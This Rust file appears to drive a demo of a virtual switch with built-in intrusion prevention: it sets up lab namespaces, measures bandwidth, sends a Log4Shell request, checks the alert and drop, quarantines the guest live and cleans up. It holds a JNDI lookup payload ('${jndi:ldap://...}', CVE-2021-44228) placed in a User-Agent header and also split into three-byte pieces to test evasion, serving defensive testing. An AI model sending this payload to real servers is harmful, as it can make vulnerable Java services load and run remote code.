//! The demo's steps, in their order. Each says what it does, does it, and checks what came of it.

use std::time::{Duration, Instant};

use serde_json::Value;
use weir_tests::lab::{Exchange, Failure, Namespace, Said, bandwidth, converse, http_get, http_pieces, ping};

use crate::show::Story;
use crate::world::{DB, INFECTED, OUTSIDE, PAGE, WEB, World, at};

/// A step of the story.
pub type Step = fn(&mut World, &mut Story) -> Result<(), Failure>;

/// What follows once the host stands.
pub const STEPS: &[Step] = &[everybody_talks, bandwidths, the_attack, what_the_operator_sees, quarantine, cost];

/// The rule that the shipped set has for it: a lookup that Log4j would follow (CVE-2021-44228).
const EXPLOIT: &[u8] = b"${jndi:ldap://10.77.0.66/a}";

/// Step 1.
pub fn build_the_host(story: &mut Story) -> Result<World, Failure> {
    story.step("A host: three guests and an uplink on one switch");
    let start = Instant::now();
    let world = World::build(|state| story.quote(state))?;
    story.check(true, format!("vswitchd runs and its four ports are up, {} ms", start.elapsed().as_millis()));
    story.quote(&world.daemon.ctl(&["port", "show"])?);
    Ok(world)
}

fn everybody_talks(world: &mut World, story: &mut Story) -> Result<(), Failure> {
    story.step("Everybody can talk to everybody (the kernel's own TCP/IP in each guest)");
    let pairs: [(&str, &Namespace, &str, &str); 3] = [
        ("web", &world.web, "db", DB),
        ("infected", &world.infected, "web", WEB),
        ("outside", &world.outside, "web", WEB),
    ];
    for (name, from, other, address) in pairs {
        let pings = ping(from, address, 3)?;
        let best = pings.best().map_or_else(|| "no answer".to_owned(), |time| format!("{} µs", time.as_micros()));
        story.check(pings.lost() == 0, format!("{name} pings {other} ({address}): {best}"));
    }
    for (name, from) in [("infected", &world.infected), ("outside", &world.outside)] {
        let exchange = http_get(from, world.server.address(), "/")?;
        story.check(exchange.is_page_with(PAGE), format!("{name} reads http://{WEB}/: {}", told(&exchange)));
    }
    Ok(())
}

fn bandwidths(world: &mut World, story: &mut Story) -> Result<(), Failure> {
    story.step("Bandwidth, with inspection and offloads on, one TCP connection, 3 s each");
    for (name, from, to, address) in [
        ("web → db (TAP to vhost-user, whole TCP super-segments)", &world.web, &world.db, DB),
        ("outside → web (AF_XDP to TAP, Ethernet frames)", &world.outside, &world.web, WEB),
    ] {
        let before = world.daemon.cpu_time()?;
        let rate = bandwidth(from, to, at(address, 5001)?, Duration::from_secs(3))?;
        let cpu = (world.daemon.cpu_time()? - before).as_secs_f64() / rate.elapsed.as_secs_f64() * 100.0;
        let gigabits = rate.gigabits_per_second();
        story.check(gigabits > 0.05, format!("{name}: {gigabits:.2} Gbit/s, vswitchd at {cpu:.0} % of a core"));
    }
    Ok(())
}

fn the_attack(world: &mut World, story: &mut Story) -> Result<(), Failure> {
    story.step("The infected guest attacks its neighbour (Log4Shell in a request's header)");
    let address = world.server.address();
    let request = [b"GET / HTTP/1.1\r\nHost: shop\r\nUser-Agent: ", EXPLOIT, b"\r\n\r\n"].concat();
    let attempts: [(&str, Vec<&[u8]>); 2] =
        [("whole", vec![&request]), ("in pieces of three bytes", request.chunks(3).collect())];
    for (how, pieces) in attempts {
        let exchange = http_pieces(&world.infected, address, &pieces, Duration::from_secs(2))?;
        story.say(format!("sent {how}: {}", told(&exchange)));
        let stopped = !matches!(exchange, Exchange::Answered(..)) && !world.server.has_read(EXPLOIT);
        story.check(stopped, format!("the exploit, sent {how}, is stopped: the web server never read it"));
    }
    let exchange = http_get(&world.outside, address, "/")?;
    story.check(exchange.is_page_with(PAGE), format!("the shop stays open for others: {}", told(&exchange)));
    Ok(())
}

fn what_the_operator_sees(world: &mut World, story: &mut Story) -> Result<(), Failure> {
    story.step("What the operator sees of it");
    let from_infected = |kind: &'static str| move |e: &Value| e["event_type"] == kind && e["src_ip"] == INFECTED;
    let alert = world.daemon.wait_event("an alert in the EVE file", from_infected("alert"))?;
    let (rule, packet) = (&alert["alert"], bytes_of(&alert));
    story.check(
        rule["action"] == "blocked",
        format!("alert: {} (sid {})", text(&rule["signature"]), rule["signature_id"]),
    );
    story.say(format!(
        "{} → {}:{}, came in by {}, category {:?}",
        text(&alert["src_ip"]),
        text(&alert["dest_ip"]),
        alert["dest_port"],
        text(&alert["in_iface"]),
        text(&rule["category"])
    ));
    story.check(!packet.is_empty(), format!("the packet's bytes are in the event ({} of them):", packet.len()));
    story.quote(&hex(&packet, 8));
    let drop = world.daemon.wait_event("a drop in the EVE file", from_infected("drop"))?;
    story.check(true, format!("drop: {}", text(&drop["drop"]["reason"])));
    let why = world.daemon.ctl(&["why", "--port", "infected", "--last", "100"])?;
    // The oldest with a signature: what came after it are the same guest's retransmissions.
    let told = why.split("\n\n").find(|packet| packet.contains("signature"));
    story.check(told.is_some(), "vswitchctl why --port infected:");
    story.quote(told.unwrap_or(&why));
    Ok(())
}

fn quarantine(world: &mut World, story: &mut Story) -> Result<(), Failure> {
    story.step("The operator quarantines the infected guest, live");
    let patience = Duration::from_secs(2);
    let mut bad = converse(&world.infected, &world.db, at(DB, 5432)?)?;
    let mut good = converse(&world.web, &world.db, at(DB, 5433)?)?;
    let both = (bad.say(b"select 1", patience)?, good.say(b"select 1", patience)?);
    story.check(both == (Said::Heard, Said::Heard), "infected and web each have an open connection to the database");
    let rules = "[[rule]]\nname = \"quarantine\"\naction = \"drop\"\nfrom = { ports = [\"infected\"] }\nlog = true\n";
    story.quote(rules);
    let file = world.daemon.path("policy.toml");
    std::fs::write(&file, rules)?;
    let start = Instant::now();
    let applied = world.daemon.ctl(&["policy", "apply", &file.display().to_string()])?;
    story.say(format!("vswitchctl policy apply policy.toml ({} ms)", start.elapsed().as_millis()));
    story.quote(applied.trim());
    let (bad, good) = (bad.say(b"select 2", patience)?, good.say(b"select 2", patience)?);
    story.check(bad != Said::Heard, format!("the infected guest's open connection stops ({bad:?})"));
    story.check(good == Said::Heard, "the web server's open connection goes on");
    let pings = ping(&world.infected, OUTSIDE, 1)?;
    story.check(pings.lost() == 1, "the infected guest reaches nobody any more");
    Ok(())
}

fn cost(world: &mut World, story: &mut Story) -> Result<(), Failure> {
    story.step("What it costs when nothing happens");
    let time = Duration::from_secs(3);
    let before = world.daemon.cpu_time()?;
    std::thread::sleep(time);
    let percent = (world.daemon.cpu_time()? - before).as_secs_f64() / time.as_secs_f64() * 100.0;
    story.check(percent < 0.5, format!("idle for 3 s: {percent:.2} % of a core"));
    story.quote(&world.daemon.ctl(&["stats"])?.lines().take(16).collect::<Vec<_>>().join("\n"));
    Ok(())
}

/// The last step.
pub fn clean_up(mut world: World, story: &mut Story) -> Result<(), Failure> {
    story.step("Everything is removed again");
    let names = [&world.web, &world.db, &world.infected, &world.outside].map(|host| host.name().to_owned());
    world.daemon.stop()?;
    drop(world);
    let left: Vec<_> =
        names.iter().filter(|name| std::fs::exists(format!("/run/netns/{name}")).unwrap_or(true)).collect();
    story.check(left.is_empty(), "no namespace, socket or process is left");
    story.say("Three commands to try next:");
    story.quote(
        "cargo demo -- --stay                 # the same host, left standing to play with\n\
         target/release/vswitchctl --help     # everything an operator can ask and say\n\
         sudo target/release/vswitchd run     # an empty switch of your own; then: vswitchctl switch add lan",
    );
    Ok(())
}

fn told(exchange: &Exchange) -> String {
    match exchange {
        Exchange::Answered(status, body) => format!("{status}, {body:?}"),
        Exchange::NoConnection(why) => format!("no connection ({why})"),
        Exchange::Reset => "the connection is reset".to_owned(),
        Exchange::Silence => "no answer".to_owned(),
    }
}

fn text(value: &Value) -> &str {
    value.as_str().unwrap_or("(not stated)")
}

/// The packet an event carries, from base64 (RFC 4648).
fn bytes_of(event: &Value) -> Vec<u8> {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let (mut bytes, mut bits, mut count) = (Vec::new(), 0_u32, 0);
    for digit in event["packet"].as_str().unwrap_or("").bytes() {
        let Some(value) = ALPHABET.iter().position(|&letter| letter == digit) else { continue };
        bits = bits << 6 | value as u32;
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count) as u8);
        }
    }
    bytes
}

/// The first lines of a hex dump.
fn hex(bytes: &[u8], lines: usize) -> String {
    let line = |(number, line): (usize, &[u8])| {
        let digits: Vec<String> = line.iter().map(|byte| format!("{byte:02x}")).collect();
        let letters = line.iter().map(|&byte| if (0x20..0x7f).contains(&byte) { char::from(byte) } else { '.' });
        format!("{:04x}  {:47}  {}", number * 16, digits.join(" "), letters.collect::<String>())
    };
    bytes.chunks(16).enumerate().take(lines).map(line).collect::<Vec<_>>().join("\n")
}
